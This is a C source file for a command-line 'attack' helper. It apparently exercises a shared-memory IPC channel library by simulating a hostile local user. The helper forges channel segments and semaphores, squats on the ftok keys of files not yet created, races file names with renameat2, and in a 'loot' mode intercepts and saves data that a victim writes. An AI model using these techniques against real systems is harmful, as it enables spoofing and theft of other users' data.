/* SPDX-License-Identifier: MIT */
/*
 * attack - what another user of the machine can do to channels: forge objects, give them away, swap names.
 *
 *	attack forge STATE [OPTION...]
 *		make a segment and a set of two semaphores that look like a channel
 *	attack squat STATE COUNT [OPTION...]
 *		the same, under the keys of the COUNT files that will be made next on this file system
 *	attack swap A B
 *		exchange the names A and B, over and over, until standard input ends
 *	attack reuse PATH
 *		remove PATH and make it again until it has its old inode again; status 1: it never gets that
 *
 * STATE: waiting-writer, waiting-reader, running, detached, resumable, stale, owed, unready, version, zero;
 * segment and set make only one of the two.
 *
 *	--path PATH     key and identity of this file
 *	--claim PATH    the header says so instead
 *	--project ID    project id of the key (default 83)
 *	--key KEY       this key
 *	--mode MODE     of both objects, octal (default 0666)
 *	--set ID        the header names this set, and none is made
 *	--give UID      hand both objects to this user with IPC_SET
 *	--data FILE     what a forged writer has sent
 *	--loot FILE     stay attached and play the other side; what a victim sends goes to this file
 *	--stay          stay attached, do nothing
 *
 * Prints "shm ID sem ID" for each pair; with --loot or --stay it then prints "ready", and goes on until
 * standard input ends.  Whatever it made stays.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "os/segment.h"
#include "os/semaphores.h"
#include "ring/layout.h"
#include "attack_fake.h"

/* Take all that a writer has put into the ring, and report success. */
static void take(const struct order *order, const struct fake *fake, int loot)
{
	struct sv_header *header = (struct sv_header *)fake->base;
	struct sv_side_line *writer = &header->side[SV_WRITER], *reader = &header->side[SV_READER];
	struct sembuf bell = { SV_SEM_SPACE, 1, IPC_NOWAIT };
	uint64_t head = atomic_load(&writer->position), tail = atomic_load(&reader->position);
	uint32_t status = atomic_load(&writer->status);
	const unsigned char *ring = fake->base + sv_segment_header_size();
	bool news = head != tail;
	/* The bytes that the attacker has forged do not count as loot. */
	uint64_t own = order->state == WAITING_READER ? 0 : order->length;

	if (atomic_load(&reader->status) == SV_DONE)
		return;
	for (; tail != head; tail++)
		if (tail >= own && write(loot, ring + tail % CAPACITY, 1) != 1)
			die("loot");
	atomic_store(&reader->position, tail);
	if (status == SV_DONE) {
		atomic_store(&reader->status, SV_DONE);
		news = true;
	}
	if (news)
		semop(fake->semid, &bell, 1);
}

static void play(const struct order *order, const struct fake *fakes, size_t count, const char *file)
{
	struct pollfd input = { .fd = STDIN_FILENO, .events = POLLIN };
	int loot = file != NULL ? open(file, O_WRONLY | O_CREAT | O_APPEND, 0600) : -1;
	char byte;
	size_t i;

	if (file != NULL && loot == -1)
		die(file);
	puts("ready");
	fflush(stdout);
	while (poll(&input, 1, file != NULL ? 1 : -1) == 0 || read(STDIN_FILENO, &byte, 1) == 1)
		for (i = 0; i < count; i++)
			if (loot != -1 && fakes[i].base != NULL && order->state != WAITING_WRITER)
				take(order, &fakes[i], loot);
}

static void load(struct order *order, const char *file)
{
	int fd = open(file, O_RDONLY);
	ssize_t length = fd != -1 ? read(fd, order->data, sizeof order->data) : -1;

	if (length == -1)
		die(file);
	order->length = (size_t)length;
	close(fd);
}

static void identify(struct order *order, const char *path)
{
	struct stat st;

	if (stat(path, &st) == -1)
		die(path);
	order->device = st.st_dev;
	order->inode = st.st_ino;
	order->key = ftok(path, order->project);
	order->path = path;
}

static size_t squat(struct order *order, size_t count, bool stay, struct fake *fakes)
{
	size_t i, made = 0;
	ino_t first;

	if (close(open("squat", O_WRONLY | O_CREAT, 0600)) == -1)
		die("squat");
	identify(order, "squat");
	unlink("squat");
	first = order->inode;
	order->path = "/squatted";
	for (i = 1; i <= count; i++) {
		order->inode = first + i;
		/* The key as ftok(3) makes it. */
		order->key = (key_t)((unsigned)order->project << 24 | ((unsigned)order->device & 0xff) << 16 |
		                     ((unsigned)order->inode & 0xffff));
		made += forge(order, stay, &fakes[made]);
	}
	return made;
}

static int swap(const char *a, const char *b)
{
	struct pollfd input = { .fd = STDIN_FILENO, .events = POLLIN };
	unsigned long times = 0;

	puts("ready");
	fflush(stdout);
	for (;; times++) {
		if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == -1)
			die("swap");
		if (times % 64 == 0 && poll(&input, 1, 0) != 0)
			break;
	}
	printf("%lu\n", times);
	return 0;
}

static int reuse(const char *path)
{
	struct stat was, now;
	int i, fd;

	if (stat(path, &was) == -1)
		die(path);
	for (i = 0; i < 1000; i++) {
		if (unlink(path) == -1 || (fd = open(path, O_WRONLY | O_CREAT | O_EXCL, 0600)) == -1 ||
		    fstat(fd, &now) == -1 || close(fd) == -1)
			die(path);
		if (now.st_ino == was.st_ino)
			return 0;
	}
	return 1;
}

static enum state state_of(const char *word)
{
	int i;

	for (i = 0; i < STATES; i++)
		if (strcmp(states[i], word) == 0)
			return (enum state)i;
	usage();
	return STATES;
}

int main(int argc, char **argv)
{
	static const struct option options[] = { { "path", 1, NULL, 'p' },    { "claim", 1, NULL, 'c' },
		                                 { "project", 1, NULL, 'i' }, { "key", 1, NULL, 'k' },
		                                 { "mode", 1, NULL, 'm' },    { "set", 1, NULL, 's' },
		                                 { "give", 1, NULL, 'g' },    { "data", 1, NULL, 'd' },
		                                 { "loot", 1, NULL, 'l' },    { "stay", 0, NULL, 't' },
		                                 { NULL, 0, NULL, 0 } };
	struct order order = {
		.project = SV_PROJECT_DEFAULT, .mode = 0666, .set = -1, .give = -1, .path = "/"
	};
	const char *verb = argc > 1 ? argv[1] : "", *path = NULL, *claim = NULL, *key = NULL, *loot = NULL;
	struct fake *fakes;
	bool stay = false;
	size_t count;
	int option;

	if (strcmp(verb, "swap") == 0 && argc == 4)
		return swap(argv[2], argv[3]);
	if (strcmp(verb, "reuse") == 0 && argc == 3)
		return reuse(argv[2]);
	argc--, argv++;
	while ((option = getopt_long(argc, argv, "", options, NULL)) != -1)
		switch (option) {
		case 'p': path = optarg; break;
		case 'c': claim = optarg; break;
		case 'i': order.project = atoi(optarg); break;
		case 'k': key = optarg; break;
		case 'm': order.mode = (int)strtol(optarg, NULL, 8); break;
		case 's': order.set = atoi(optarg); break;
		case 'g': order.give = atoi(optarg); break;
		case 'd': load(&order, optarg); break;
		case 'l': loot = optarg; /* fall through */
		case 't': stay = true; break;
		default: usage();
		}
	argc -= optind, argv += optind;
	if (argc < 1)
		usage();
	order.state = state_of(argv[0]);
	count = argc > 1 ? strtoul(argv[1], NULL, 10) : 1;
	fakes = calloc(count, sizeof *fakes);
	if (fakes == NULL)
		die("memory");
	if (strcmp(verb, "squat") == 0) {
		count = squat(&order, count, stay, fakes);
	} else if (strcmp(verb, "forge") == 0) {
		if (path != NULL)
			identify(&order, path);
		if (key != NULL)
			order.key = (key_t)strtoul(key, NULL, 0);
		if (claim != NULL)
			order.path = claim;
		if (!forge(&order, stay, fakes)) {
			errno = EEXIST;
			die("forge");
		}
	} else {
		usage();
	}
	if (stay)
		play(&order, fakes, count, loot);
	free(fakes);
	return 0;
}
